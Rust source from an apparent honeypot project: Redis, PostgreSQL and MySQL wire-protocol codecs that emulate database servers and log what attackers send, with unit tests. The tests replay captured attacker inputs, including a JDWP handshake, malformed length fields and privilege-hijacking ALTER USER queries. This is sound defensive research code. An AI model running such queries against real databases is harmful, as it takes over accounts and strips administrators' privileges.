            // `write!` renders straight into the output buffer; no
            // intermediate string.
            let _ = write!(buf, ":{i}\r\n");
        }
        RespValue::Bulk(b) => {
            let _ = write!(buf, "${}\r\n", b.len());
            buf.extend_from_slice(b);
            buf.extend_from_slice(b"\r\n");
        }
        RespValue::NullBulk => buf.extend_from_slice(b"$-1\r\n"),
        RespValue::Array(items) => {
            let _ = write!(buf, "*{}\r\n", items.len());
            for item in items {
                encode_value(item, buf);
            }
        }
        RespValue::NullArray => buf.extend_from_slice(b"*-1\r\n"),
        // Inline values re-encode as the raw line (client replay of captures).
        RespValue::Inline(s) => {
            buf.extend_from_slice(s.as_bytes());
            buf.extend_from_slice(b"\r\n");
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn decode_one(codec: &mut RespCodec, bytes: &[u8]) -> NetResult<Option<RespValue>> {
        let mut buf = BytesMut::from(bytes);
        codec.decode(&mut buf)
    }

    #[test]
    fn decodes_scalar_types() {
        let mut c = RespCodec::client();
        assert_eq!(
            decode_one(&mut c, b"+OK\r\n").unwrap(),
            Some(RespValue::Simple("OK".into()))
        );
        assert_eq!(
            decode_one(&mut c, b"-ERR nope\r\n").unwrap(),
            Some(RespValue::Error("ERR nope".into()))
        );
        assert_eq!(
            decode_one(&mut c, b":-7\r\n").unwrap(),
            Some(RespValue::Integer(-7))
        );
        assert_eq!(
            decode_one(&mut c, b"$3\r\nfoo\r\n").unwrap(),
            Some(RespValue::bulk("foo"))
        );
        assert_eq!(
            decode_one(&mut c, b"$-1\r\n").unwrap(),
            Some(RespValue::NullBulk)
        );
        assert_eq!(
            decode_one(&mut c, b"*-1\r\n").unwrap(),
            Some(RespValue::NullArray)
        );
    }

    #[test]
    fn decodes_nested_arrays_incrementally() {
        let mut c = RespCodec::server();
        let full = b"*2\r\n$3\r\nGET\r\n$1\r\nx\r\n";
        // every prefix is incomplete, the full buffer decodes
        for cut in 1..full.len() {
            let mut buf = BytesMut::from(&full[..cut]);
            assert_eq!(c.decode(&mut buf).unwrap(), None, "cut at {cut}");
            assert_eq!(buf.len(), cut, "no bytes consumed on partial");
        }
        let mut buf = BytesMut::from(&full[..]);
        let v = c.decode(&mut buf).unwrap().unwrap();
        assert_eq!(v, RespValue::command(&["GET", "x"]));
        assert!(buf.is_empty());
    }

    #[test]
    fn inline_commands_in_server_mode_only() {
        let mut server = RespCodec::server();
        let v = decode_one(&mut server, b"PING\r\n").unwrap().unwrap();
        assert_eq!(v, RespValue::Inline("PING".into()));

        let mut client = RespCodec::client();
        assert!(decode_one(&mut client, b"PING\r\n").is_err());
    }

    #[test]
    fn jdwp_handshake_decodes_as_inline_garbage() {
        // Listing 11: JDWP handshake thrown at a Redis port.
        let mut server = RespCodec::server();
        let v = decode_one(&mut server, b"JDWP-Handshake\r\n")
            .unwrap()
            .unwrap();
        assert_eq!(v, RespValue::Inline("JDWP-Handshake".into()));
        assert_eq!(as_command(&v).unwrap().name, "JDWP-HANDSHAKE".to_string());
    }

    #[test]
    fn command_extraction_and_render() {
        let v = RespValue::command(&["set", "x", "hello world"]);
        let cmd = as_command(&v).unwrap();
        assert_eq!(cmd.name, "SET");
        assert_eq!(cmd.arg_text(0).unwrap(), "x");
        assert_eq!(cmd.render(), "SET x hello world");
        assert_eq!(as_command(&RespValue::Integer(1)), None);
    }

    #[test]
    fn roundtrip_all_variants() {
        let values = vec![
            RespValue::Simple("PONG".into()),
            RespValue::Error("WRONGTYPE".into()),
            RespValue::Integer(1234567890),
            RespValue::bulk(b"\x00\x01binary\xff"),
            RespValue::NullBulk,
            RespValue::NullArray,
            RespValue::Array(vec![
                RespValue::bulk("a"),
                RespValue::Array(vec![RespValue::Integer(1), RespValue::NullBulk]),
            ]),
        ];
        let mut c = RespCodec::client();
        for v in values {
            let mut buf = BytesMut::new();
            c.encode(&v, &mut buf).unwrap();
            let decoded = c.decode(&mut buf).unwrap().unwrap();
            assert_eq!(decoded, v);
            assert!(buf.is_empty());
        }
    }

    #[test]
    fn rejects_hostile_lengths() {
        let mut c = RespCodec::client();
        assert!(decode_one(&mut c, b"$99999999999999999999\r\n").is_err());
        assert!(decode_one(&mut c, b"*2000000\r\n").is_err());
        assert!(decode_one(&mut c, b":abc\r\n").is_err());
    }

    #[test]
    fn bulk_longer_than_frame_limit_is_rejected_up_front() {
        // Declared 5 MiB bulk exceeds the 4 MiB frame limit: the codec must
        // refuse immediately instead of buffering toward a doomed frame.
        let mut c = RespCodec::client();
        let err = decode_one(&mut c, b"$5242880\r\n").unwrap_err();
        match err {
            NetError::Wire(w) => {
                assert_eq!(w.protocol, WireProtocol::Resp);
                assert!(matches!(w.kind, WireErrorKind::LengthOutOfRange { .. }));
            }
            other => panic!("expected wire error, got {other:?}"),
        }
    }

    #[test]
    fn rejects_deep_nesting() {
        let mut bytes = Vec::new();
        for _ in 0..64 {
            bytes.extend_from_slice(b"*1\r\n");
        }
        bytes.extend_from_slice(b":1\r\n");
        let mut c = RespCodec::client();
        assert!(decode_one(&mut c, &bytes).is_err());
    }

    #[test]
    fn bulk_must_end_with_crlf() {
        let mut c = RespCodec::client();
        assert!(decode_one(&mut c, b"$3\r\nfooXX").is_err());
    }
}
