//! PostgreSQL frontend/backend protocol, version 3.0.
//!
//! Enough of the protocol for a faithful Sticky-Elephant-style honeypot and
//! for attacking clients: startup (including `SSLRequest` negotiation),
//! cleartext and MD5 password authentication, the simple query subprotocol,
//! error responses, and raw pass-through of extended-protocol messages so
//! unexpected client behaviour is preserved verbatim in the logs.
//!
//! Decoding is total: every read goes through [`ByteCursor`], so malformed
//! frames surface as [`decoy_net::WireError`] values, never panics.

// decoy-hot-path: file -- per-message decode/encode, one call per wire message

use bytes::{Buf, BufMut, Bytes, BytesMut};
use decoy_net::codec::{peek_u32_be, Codec};
use decoy_net::cursor::{sat_i32, sat_u16, sat_u32, usize_from, ByteCursor};
use decoy_net::error::{NetResult, WireError, WireErrorKind, WireProtocol};
use std::fmt::Write as _;

/// Protocol version number for v3.0 startup packets.
pub const PROTOCOL_V3: u32 = 196_608;
/// Magic "protocol version" of an SSLRequest.
pub const SSL_REQUEST_CODE: u32 = 80_877_103;
/// Magic "protocol version" of a CancelRequest.
pub const CANCEL_REQUEST_CODE: u32 = 80_877_102;

/// Messages sent by the client (frontend).
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum FrontendMessage {
    /// TLS negotiation request; honeypots answer `SslRefused`.
    SslRequest,
    /// Out-of-band query cancellation.
    CancelRequest {
        /// Backend process id to cancel.
        pid: u32,
        /// Cancellation secret from `BackendKeyData`.
        secret: u32,
    },
    /// Connection startup with parameters (`user`, `database`, ...).
    Startup {
        /// Key/value startup parameters in wire order.
        params: Vec<(String, String)>,
    },
    /// `PasswordMessage` — cleartext password or MD5 digest text.
    Password(String),
    /// Simple query (`Q`).
    Query(String),
    /// Clean disconnect (`X`).
    Terminate,
    /// Any other tagged message (extended protocol etc.), preserved raw.
    Other {
        /// Message tag byte.
        tag: u8,
        /// Raw body after the length word (a zero-copy view of the read
        /// buffer).
        body: Bytes,
    },
}

/// Messages sent by the server (backend).
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum BackendMessage {
    /// `R` code 0.
    AuthenticationOk,
    /// `R` code 3.
    AuthenticationCleartextPassword,
    /// `R` code 5 with salt.
    AuthenticationMd5Password {
        /// The 4-byte MD5 salt.
        salt: [u8; 4],
    },
    /// `S` run-time parameter report.
    ParameterStatus {
        /// Parameter name.
        name: String,
        /// Parameter value.
        value: String,
    },
    /// `K` cancellation key.
    BackendKeyData {
        /// Backend process id.
        pid: u32,
        /// Cancellation secret.
        secret: u32,
    },
    /// `Z` — `status` is `b'I'`, `b'T'` or `b'E'`.
    ReadyForQuery {
        /// Transaction status byte.
        status: u8,
    },
    /// `E` with the three mandatory fields.
    ErrorResponse {
        /// Severity field (`S`), e.g. `FATAL`.
        severity: String,
        /// SQLSTATE code field (`C`), e.g. `28P01`.
        code: String,
        /// Human-readable message field (`M`).
        message: String,
    },
    /// `T` — column names only (all typed as `text`), which is all the
    /// honeypot's scripted answers need.
    RowDescription {
        /// Column names in order.
        columns: Vec<String>,
    },
    /// `D` — one row of optional text values.
    DataRow {
        /// Column values; `None` is SQL NULL.
        values: Vec<Option<String>>,
    },
    /// `C` command tag, e.g. `SELECT 1`.
    CommandComplete {
        /// The completion tag.
        tag: String,
    },
    /// `I` response to an empty query string.
    EmptyQueryResponse,
    /// The single raw byte `N` refusing an `SSLRequest`.
    SslRefused,
}

impl BackendMessage {
    /// The standard "password authentication failed" error.
    pub fn auth_failed(user: &str) -> Self {
        let mut message = String::with_capacity(44_usize.saturating_add(user.len()));
        let _ = write!(
            message,
            "password authentication failed for user \"{user}\""
        );
        BackendMessage::ErrorResponse {
            severity: "FATAL".into(),
            code: "28P01".into(),
            message,
        }
    }

    /// A generic syntax error, used by the honeypot for unintelligible SQL.
    pub fn syntax_error(near: &str) -> Self {
        let mut message = String::with_capacity(28_usize.saturating_add(near.len()));
        let _ = write!(message, "syntax error at or near \"{near}\"");
        BackendMessage::ErrorResponse {
            severity: "ERROR".into(),
            code: "42601".into(),
            message,
        }
    }
}

fn put_cstring(buf: &mut BytesMut, s: &str) {
    buf.extend_from_slice(s.as_bytes());
    buf.put_u8(0);
}

/// Decode a startup-family packet body (after the 4-byte length; offsets in
/// errors are relative to the packet start).
fn parse_startup_body(body: &[u8]) -> NetResult<FrontendMessage> {
    let mut cur = ByteCursor::with_base(body, WireProtocol::Pgwire, 4);
    let code = cur.u32_be()?;
    match code {
        SSL_REQUEST_CODE => Ok(FrontendMessage::SslRequest),
        CANCEL_REQUEST_CODE => {
            let pid = cur.u32_be()?;
            let secret = cur.u32_be()?;
            Ok(FrontendMessage::CancelRequest { pid, secret })
        }
        PROTOCOL_V3 => {
            // decoy-lint: allow(alloc-vec) -- startup happens once per session
            let mut params = Vec::new();
            while !matches!(cur.peek_u8(), None | Some(0)) {
                let k = cur.cstring_lossy()?;
                let v = cur.cstring_lossy()?;
                params.push((k, v));
            }
            Ok(FrontendMessage::Startup { params })
        }
        _ => Err(cur
            .err(WireErrorKind::BadMagic {
                what: "startup protocol code",
            })
            .into()),
    }
}

/// Peek a tagged message header: tag byte + big-endian length word.
fn peek_tagged_header(buf: &BytesMut) -> Option<(u8, u32)> {
    let tag = *buf.first()?;
    let len = buf
        .get(1..5)
        .and_then(|s| s.first_chunk::<4>())
        .map(|b| u32::from_be_bytes(*b))?;
    Some((tag, len))
}

/// Validate a tagged-message length word against the codec's frame limit.
fn check_tagged_len(len32: u32, max: usize) -> NetResult<usize> {
    let len = usize_from(len32);
    if !(4..=max).contains(&len) {
        return Err(WireError::new(
            WireProtocol::Pgwire,
            1,
            WireErrorKind::LengthOutOfRange {
                declared: u64::from(len32),
                max: u64::try_from(max).unwrap_or(u64::MAX),
            },
        )
        .into());
    }
    Ok(len)
}

/// Server-side codec: decodes [`FrontendMessage`], encodes [`BackendMessage`].
///
/// Stateful: the first packet on a connection has no tag byte. An
/// `SSLRequest` keeps the codec in startup state because the client re-sends
/// its startup packet after the refusal.
#[derive(Debug, Clone)]
pub struct PgServerCodec {
    startup_done: bool,
}

impl PgServerCodec {
    /// A codec positioned before the startup packet.
    pub fn new() -> Self {
        PgServerCodec {
            startup_done: false,
        }
    }
}

impl Default for PgServerCodec {
    fn default() -> Self {
        Self::new()
    }
}

impl Codec for PgServerCodec {
    type In = FrontendMessage;
    type Out = BackendMessage;

    fn decode(&mut self, buf: &mut BytesMut) -> NetResult<Option<FrontendMessage>> {
        if !self.startup_done {
            let Some(len32) = peek_u32_be(buf) else {
                return Ok(None);
            };
            let len = usize_from(len32);
            if !(8..=10_000).contains(&len) {
                return Err(WireError::new(
                    WireProtocol::Pgwire,
                    0,
                    WireErrorKind::LengthOutOfRange {
                        declared: u64::from(len32),
                        max: 10_000,
                    },
                )
                .into());
            }
            if buf.len() < len {
                return Ok(None);
            }
            buf.advance(4);
            let body = buf.split_to(len - 4);
            let msg = parse_startup_body(&body)?;
            if matches!(msg, FrontendMessage::Startup { .. }) {
                self.startup_done = true;
            }
            return Ok(Some(msg));
        }
        let Some((tag, len32)) = peek_tagged_header(buf) else {
            return Ok(None);
        };
        let len = check_tagged_len(len32, self.max_frame_len())?;
        if buf.len() < 1 + len {
            return Ok(None);
        }
        buf.advance(5);
        // Zero-copy: the body is a shared view of the read buffer; only
        // `Other` keeps it, the typed arms parse out of the borrow.
        let body = buf.split_to(len - 4).freeze();
        let msg = match tag {
            b'p' => {
                let mut cur = ByteCursor::with_base(&body, WireProtocol::Pgwire, 5);
                FrontendMessage::Password(cur.cstring_lossy()?)
            }
            b'Q' => {
                let mut cur = ByteCursor::with_base(&body, WireProtocol::Pgwire, 5);
                FrontendMessage::Query(cur.cstring_lossy()?)
            }
            b'X' => FrontendMessage::Terminate,
            other => FrontendMessage::Other { tag: other, body },
        };
        Ok(Some(msg))
    }

    fn encode(&mut self, frame: &BackendMessage, buf: &mut BytesMut) -> NetResult<()> {
        encode_backend(frame, buf);
        Ok(())
    }

    fn max_frame_len(&self) -> usize {
        (1 << 20).min(crate::MAX_FRAME)
    }
}

/// Client-side codec: decodes [`BackendMessage`], encodes [`FrontendMessage`].
#[derive(Debug, Clone)]
pub struct PgClientCodec {
    sent_startup: bool,
}

impl PgClientCodec {
    /// A codec positioned before the startup packet is sent.
    pub fn new() -> Self {
        PgClientCodec {
            sent_startup: false,
        }
    }
}

impl Default for PgClientCodec {
    fn default() -> Self {
        Self::new()
    }
}

impl Codec for PgClientCodec {
    type In = BackendMessage;
    type Out = FrontendMessage;

    fn decode(&mut self, buf: &mut BytesMut) -> NetResult<Option<BackendMessage>> {
        let Some((tag, len32)) = peek_tagged_header(buf) else {
            return Ok(None);
        };
        let len = check_tagged_len(len32, self.max_frame_len())?;
        if buf.len() < 1 + len {
            return Ok(None);
        }
        buf.advance(5);
        let body = buf.split_to(len - 4);
        let msg = parse_backend(tag, &body)?;
        Ok(Some(msg))
    }

    fn encode(&mut self, frame: &FrontendMessage, buf: &mut BytesMut) -> NetResult<()> {
        encode_frontend(frame, buf, &mut self.sent_startup);
        Ok(())
    }
}

fn parse_backend(tag: u8, body: &[u8]) -> NetResult<BackendMessage> {
    // Offsets in errors are relative to the tagged message start (tag byte
    // at 0, body begins at 5).
    let mut cur = ByteCursor::with_base(body, WireProtocol::Pgwire, 5);
    Ok(match tag {
        b'R' => match cur.u32_be()? {
            0 => BackendMessage::AuthenticationOk,
            3 => BackendMessage::AuthenticationCleartextPassword,
            5 => {
                let mut salt = [0u8; 4];
                for b in &mut salt {
                    *b = cur.u8()?;
                }
                BackendMessage::AuthenticationMd5Password { salt }
            }
            _ => {
                return Err(cur
                    .err(WireErrorKind::BadMagic {
                        what: "authentication code",
                    })
                    .into())
            }
        },
        b'S' => {
            let name = cur.cstring_lossy()?;
            let value = cur.cstring_lossy()?;
            BackendMessage::ParameterStatus { name, value }
        }
        b'K' => BackendMessage::BackendKeyData {
            pid: cur.u32_be()?,
            secret: cur.u32_be()?,
        },
        b'Z' => BackendMessage::ReadyForQuery {
            status: cur.peek_u8().unwrap_or(b'I'),
        },
        b'E' => {
            let mut severity = String::new();
            let mut code = String::new();
            let mut message = String::new();
            while !matches!(cur.peek_u8(), None | Some(0)) {
                let field = cur.u8()?;
                let value = cur.cstring_lossy()?;
                match field {
                    b'S' => severity = value,
                    b'C' => code = value,
                    b'M' => message = value,
                    _ => {}
                }
            }
            BackendMessage::ErrorResponse {
                severity,
                code,
                message,
            }
        }
        b'T' => {
            let n = usize::from(cur.u16_be()?);
            // decoy-lint: allow(alloc-vec) -- client-side replay path; row shapes vary per response
            let mut columns = Vec::with_capacity(n.min(1024));
            for _ in 0..n {
                let name = cur.cstring_lossy()?;
                // table oid, attnum, type oid, size, modifier, format
                cur.skip(18)?;
                columns.push(name);
            }
            BackendMessage::RowDescription { columns }
        }
        b'D' => {
            let n = usize::from(cur.u16_be()?);
            // decoy-lint: allow(alloc-vec) -- client-side replay path; row shapes vary per response
            let mut values = Vec::with_capacity(n.min(1024));
            for _ in 0..n {
                let len = cur.i32_be()?;
                if len < 0 {
                    values.push(None);
                } else {
                    let len = cur.checked_len(i64::from(len), crate::MAX_FRAME)?;
                    let raw = cur.take(len)?;
                    values.push(Some(String::from_utf8_lossy(raw).into_owned()));
                }
            }
            BackendMessage::DataRow { values }
        }
        b'C' => BackendMessage::CommandComplete {
            tag: cur.cstring_lossy()?,
        },
        b'I' => BackendMessage::EmptyQueryResponse,
        _ => {
            return Err(WireError::new(
                WireProtocol::Pgwire,
                0,
                WireErrorKind::BadMagic {
                    what: "backend message tag",
                },
            )
            .into())
        }
    })
}

fn encode_frontend(msg: &FrontendMessage, buf: &mut BytesMut, sent_startup: &mut bool) {
    match msg {
        FrontendMessage::SslRequest => {
            buf.put_u32(8);
            buf.put_u32(SSL_REQUEST_CODE);
        }
        FrontendMessage::CancelRequest { pid, secret } => {
            buf.put_u32(16);
            buf.put_u32(CANCEL_REQUEST_CODE);
            buf.put_u32(*pid);
            buf.put_u32(*secret);
        }
        FrontendMessage::Startup { params } => {
            // Length computed up front so the body renders straight into
            // `buf` with no intermediate staging buffer.
            let body_len: usize = params
                .iter()
                .map(|(k, v)| k.len().saturating_add(v.len()).saturating_add(2))
                .sum::<usize>()
                .saturating_add(5);
            buf.put_u32(sat_u32(4usize.saturating_add(body_len)));
            buf.put_u32(PROTOCOL_V3);
            for (k, v) in params {
                put_cstring(buf, k);
                put_cstring(buf, v);
            }
            buf.put_u8(0);
            *sent_startup = true;
        }
        FrontendMessage::Password(pw) => {
            buf.put_u8(b'p');
            buf.put_u32(sat_u32(4 + pw.len() + 1));
            put_cstring(buf, pw);
        }
        FrontendMessage::Query(q) => {
            buf.put_u8(b'Q');
            buf.put_u32(sat_u32(4 + q.len() + 1));
            put_cstring(buf, q);
        }
        FrontendMessage::Terminate => {
            buf.put_u8(b'X');
            buf.put_u32(4);
        }
        FrontendMessage::Other { tag, body } => {
            buf.put_u8(*tag);
            buf.put_u32(sat_u32(4 + body.len()));
            buf.extend_from_slice(body);
        }
    }
}

fn encode_backend(msg: &BackendMessage, buf: &mut BytesMut) {
    match msg {
        BackendMessage::SslRefused => {
            buf.put_u8(b'N');
        }
        BackendMessage::AuthenticationOk => {
            buf.put_u8(b'R');
            buf.put_u32(8);
            buf.put_u32(0);
        }
        BackendMessage::AuthenticationCleartextPassword => {
            buf.put_u8(b'R');
            buf.put_u32(8);
            buf.put_u32(3);
        }
        BackendMessage::AuthenticationMd5Password { salt } => {
            buf.put_u8(b'R');
            buf.put_u32(12);
            buf.put_u32(5);
            buf.extend_from_slice(salt);
        }
        BackendMessage::ParameterStatus { name, value } => {
            buf.put_u8(b'S');
            buf.put_u32(sat_u32(4 + name.len() + 1 + value.len() + 1));
            put_cstring(buf, name);
            put_cstring(buf, value);
        }
        BackendMessage::BackendKeyData { pid, secret } => {
            buf.put_u8(b'K');
            buf.put_u32(12);
            buf.put_u32(*pid);
            buf.put_u32(*secret);
        }
        BackendMessage::ReadyForQuery { status } => {
            buf.put_u8(b'Z');
            buf.put_u32(5);
            buf.put_u8(*status);
        }
        BackendMessage::ErrorResponse {
            severity,
            code,
            message,
        } => {
            // Each field is tag byte + NUL-terminated value; +1 terminator.
            let body_len = severity
                .len()
                .saturating_add(code.len())
                .saturating_add(message.len())
                .saturating_add(7);
            buf.put_u8(b'E');
            buf.put_u32(sat_u32(4usize.saturating_add(body_len)));
            buf.put_u8(b'S');
            put_cstring(buf, severity);
            buf.put_u8(b'C');
            put_cstring(buf, code);
            buf.put_u8(b'M');
            put_cstring(buf, message);
            buf.put_u8(0);
        }
        BackendMessage::RowDescription { columns } => {
            // Per column: name + NUL + 18 bytes of fixed descriptor fields.
            let body_len: usize = columns
                .iter()
                .map(|c| c.len().saturating_add(19))
                .sum::<usize>()
                .saturating_add(2);
            buf.put_u8(b'T');
            buf.put_u32(sat_u32(4usize.saturating_add(body_len)));
            buf.put_u16(sat_u16(columns.len()));
            for col in columns {
                put_cstring(buf, col);
                buf.put_u32(0); // table oid
                buf.put_u16(0); // attribute number
                buf.put_u32(25); // type oid: text
                buf.put_i16(-1); // type size: variable
                buf.put_i32(-1); // type modifier
                buf.put_u16(0); // format: text
            }
        }
        BackendMessage::DataRow { values } => {
            let body_len: usize = values
                .iter()
                .map(|v| v.as_ref().map_or(4, |s| s.len().saturating_add(4)))
                .sum::<usize>()
                .saturating_add(2);
            buf.put_u8(b'D');
            buf.put_u32(sat_u32(4usize.saturating_add(body_len)));
            buf.put_u16(sat_u16(values.len()));
            for v in values {
                match v {
                    None => buf.put_i32(-1),
                    Some(s) => {
                        buf.put_i32(sat_i32(s.len()));
                        buf.extend_from_slice(s.as_bytes());
                    }
                }
            }
        }
        BackendMessage::CommandComplete { tag } => {
            buf.put_u8(b'C');
            buf.put_u32(sat_u32(4 + tag.len() + 1));
            put_cstring(buf, tag);
        }
        BackendMessage::EmptyQueryResponse => {
            buf.put_u8(b'I');
            buf.put_u32(4);
        }
    }
}

/// Extract the `user` parameter from a startup message, if present.
pub fn startup_user(msg: &FrontendMessage) -> Option<&str> {
    if let FrontendMessage::Startup { params } = msg {
        params
            .iter()
            .find(|(k, _)| k == "user")
            .map(|(_, v)| v.as_str())
    } else {
        None
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn client_encode(msg: FrontendMessage) -> BytesMut {
        let mut codec = PgClientCodec::new();
        let mut buf = BytesMut::new();
        codec.encode(&msg, &mut buf).unwrap();
        buf
    }

    #[test]
    fn startup_roundtrip_through_server_codec() {
        let msg = FrontendMessage::Startup {
            params: vec![
                ("user".into(), "postgres".into()),
                ("database".into(), "postgres".into()),
            ],
        };
        let mut bytes = client_encode(msg.clone());
        let mut server = PgServerCodec::new();
        let decoded = server.decode(&mut bytes).unwrap().unwrap();
        assert_eq!(decoded, msg);
        assert_eq!(startup_user(&decoded), Some("postgres"));
    }

    #[test]
    fn ssl_request_then_startup() {
        let mut server = PgServerCodec::new();
        let mut buf = client_encode(FrontendMessage::SslRequest);
        assert_eq!(
            server.decode(&mut buf).unwrap().unwrap(),
            FrontendMessage::SslRequest
        );
        // after refusing, the client re-sends a startup on the same codec
        let mut buf = client_encode(FrontendMessage::Startup {
            params: vec![("user".into(), "admin".into())],
        });
        let msg = server.decode(&mut buf).unwrap().unwrap();
        assert_eq!(startup_user(&msg), Some("admin"));
    }

    #[test]
    fn password_and_query_after_startup() {
        let mut server = PgServerCodec::new();
        let mut buf = client_encode(FrontendMessage::Startup {
            params: vec![("user".into(), "x".into())],
        });
        server.decode(&mut buf).unwrap().unwrap();
        let mut buf = client_encode(FrontendMessage::Password("hunter2".into()));
        assert_eq!(
            server.decode(&mut buf).unwrap().unwrap(),
            FrontendMessage::Password("hunter2".into())
        );
        let mut buf = client_encode(FrontendMessage::Query("SELECT version();".into()));
        assert_eq!(
            server.decode(&mut buf).unwrap().unwrap(),
            FrontendMessage::Query("SELECT version();".into())
        );
        let mut buf = client_encode(FrontendMessage::Terminate);
        assert_eq!(
            server.decode(&mut buf).unwrap().unwrap(),
            FrontendMessage::Terminate
        );
    }

    #[test]
    fn backend_messages_roundtrip_through_client_codec() {
        let messages = vec![
            BackendMessage::AuthenticationCleartextPassword,
            BackendMessage::AuthenticationMd5Password { salt: [1, 2, 3, 4] },
            BackendMessage::AuthenticationOk,
            BackendMessage::ParameterStatus {
                name: "server_version".into(),
                value: "14.5".into(),
            },
            BackendMessage::BackendKeyData {
                pid: 4242,
                secret: 0xdead_beef,
            },
            BackendMessage::ReadyForQuery { status: b'I' },
            BackendMessage::auth_failed("postgres"),
            BackendMessage::RowDescription {
                columns: vec!["version".into(), "x".into()],
            },
            BackendMessage::DataRow {
                values: vec![Some("PostgreSQL 14.5".into()), None],
            },
            BackendMessage::CommandComplete {
                tag: "SELECT 1".into(),
            },
            BackendMessage::EmptyQueryResponse,
        ];
        let mut server = PgServerCodec::new();
        let mut client = PgClientCodec::new();
        for msg in messages {
            let mut buf = BytesMut::new();
            server.encode(&msg, &mut buf).unwrap();
            let decoded = client.decode(&mut buf).unwrap().unwrap();
            assert_eq!(decoded, msg);
            assert!(buf.is_empty());
        }
    }

    #[test]
    fn partial_messages_request_more_bytes() {
        let full = client_encode(FrontendMessage::Startup {
            params: vec![("user".into(), "postgres".into())],
        });
        for cut in 1..full.len() {
            let mut server = PgServerCodec::new();
            let mut buf = BytesMut::from(&full[..cut]);
            assert!(server.decode(&mut buf).unwrap().is_none());
            assert_eq!(buf.len(), cut);
        }
    }

    #[test]
    fn hostile_startup_length_is_rejected() {
        let mut server = PgServerCodec::new();
        let mut buf = BytesMut::from(&[0xffu8, 0xff, 0xff, 0xff, 0, 0, 0, 0][..]);
        assert!(server.decode(&mut buf).is_err());
        let mut server = PgServerCodec::new();
        let mut buf = BytesMut::from(&[0u8, 0, 0, 4][..]); // length < 8
        assert!(server.decode(&mut buf).is_err());
    }

    #[test]
    fn wire_errors_carry_protocol_and_offset() {
        let mut server = PgServerCodec::new();
        let mut buf = BytesMut::from(&[0xffu8, 0xff, 0xff, 0xff, 0, 0, 0, 0][..]);
        let err = server.decode(&mut buf).unwrap_err();
        match err {
            decoy_net::NetError::Wire(w) => {
                assert_eq!(w.protocol, WireProtocol::Pgwire);
                assert_eq!(w.offset, 0);
                assert!(matches!(w.kind, WireErrorKind::LengthOutOfRange { .. }));
            }
            other => panic!("expected wire error, got {other:?}"),
        }
    }

    #[test]
    fn unknown_tagged_messages_are_preserved_raw() {
        let mut server = PgServerCodec::new();
        let mut buf = client_encode(FrontendMessage::Startup { params: vec![] });
        server.decode(&mut buf).unwrap();
        let mut buf = client_encode(FrontendMessage::Other {
            tag: b'P',
            body: Bytes::from_static(b"\0SELECT 1\0\0\0"),
        });
        let msg = server.decode(&mut buf).unwrap().unwrap();
        assert_eq!(
            msg,
            FrontendMessage::Other {
                tag: b'P',
                body: Bytes::from_static(b"\0SELECT 1\0\0\0")
            }
        );
    }

    #[test]
    fn cancel_request_parses() {
        let mut server = PgServerCodec::new();
        let mut buf = client_encode(FrontendMessage::CancelRequest { pid: 7, secret: 99 });
        assert_eq!(
            server.decode(&mut buf).unwrap().unwrap(),
            FrontendMessage::CancelRequest { pid: 7, secret: 99 }
        );
    }

    #[test]
    fn listing13_privilege_manipulation_queries_roundtrip() {
        // The privilege-manipulation commands from Appendix E, Listing 13.
        for q in [
            "ALTER USER pgg_superadmins WITH PASSWORD 'x'",
            "ALTER USER postgres WITH NOSUPERUSER",
        ] {
            let mut server = PgServerCodec::new();
            let mut buf = client_encode(FrontendMessage::Startup {
                params: vec![("user".into(), "postgres".into())],
            });
            server.decode(&mut buf).unwrap();
            let mut buf = client_encode(FrontendMessage::Query(q.into()));
            assert_eq!(
                server.decode(&mut buf).unwrap().unwrap(),
                FrontendMessage::Query(q.into())
            );
        }
    }
}
