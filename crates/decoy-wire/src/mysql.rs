//! MySQL client/server protocol (handshake protocol version 10).
//!
//! Covers what a Qeeqbox-style low-interaction MySQL honeypot and its
//! attackers need: the server greeting, the client `HandshakeResponse41`
//! (credential capture — including cleartext passwords when the client uses
//! the `mysql_clear_password` plugin, as common brute-force tools do),
//! `OK`/`ERR` packets, and `COM_QUERY`.
//!
//! The transport layer is the classic MySQL packet: 3-byte little-endian
//! payload length, 1-byte sequence id, payload. All parsing is total via
//! [`ByteCursor`]; malformed payloads surface as [`decoy_net::WireError`].

// decoy-hot-path: file -- per-packet decode/encode, one call per wire message

use bytes::{Buf, BufMut, Bytes, BytesMut};
use decoy_net::codec::Codec;
use decoy_net::cursor::{sat_u32, sat_u8, usize_from, ByteCursor};
use decoy_net::error::{NetResult, WireError, WireErrorKind, WireProtocol};

/// Capability flag: CLIENT_PROTOCOL_41.
pub const CLIENT_PROTOCOL_41: u32 = 0x0000_0200;
/// Capability flag: CLIENT_SECURE_CONNECTION.
pub const CLIENT_SECURE_CONNECTION: u32 = 0x0000_8000;
/// Capability flag: CLIENT_PLUGIN_AUTH.
pub const CLIENT_PLUGIN_AUTH: u32 = 0x0008_0000;
/// Capability flag: CLIENT_CONNECT_WITH_DB.
pub const CLIENT_CONNECT_WITH_DB: u32 = 0x0000_0008;

/// One raw MySQL packet (transport framing only).
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct MySqlPacket {
    /// Sequence id; increments within a command/response exchange.
    pub seq: u8,
    /// Packet payload — a shared view into the decode buffer (zero-copy)
    /// or a frozen build buffer.
    pub payload: Bytes,
}

/// Codec for the MySQL packet transport. Payload interpretation is done by
/// the typed parse/build helpers below, because meaning depends on
/// connection phase.
#[derive(Debug, Clone, Default)]
pub struct MySqlCodec;

impl Codec for MySqlCodec {
    type In = MySqlPacket;
    type Out = MySqlPacket;

    fn decode(&mut self, buf: &mut BytesMut) -> NetResult<Option<MySqlPacket>> {
        let Some([b0, b1, b2, seq]) = buf.first_chunk::<4>().copied() else {
            return Ok(None);
        };
        let len = usize_from(u32::from_le_bytes([b0, b1, b2, 0]));
        if len > self.max_frame_len() {
            return Err(WireError::new(
                WireProtocol::MySql,
                0,
                WireErrorKind::LengthOutOfRange {
                    declared: u64::try_from(len).unwrap_or(u64::MAX),
                    max: u64::try_from(self.max_frame_len()).unwrap_or(u64::MAX),
                },
            )
            .into());
        }
        if buf.len() < 4 + len {
            return Ok(None);
        }
        buf.advance(4);
        let payload = buf.split_to(len).freeze();
        Ok(Some(MySqlPacket { seq, payload }))
    }

    fn encode(&mut self, frame: &MySqlPacket, buf: &mut BytesMut) -> NetResult<()> {
        if frame.payload.len() > 0xff_ffff {
            return Err(WireError::new(
                WireProtocol::MySql,
                0,
                WireErrorKind::LengthOutOfRange {
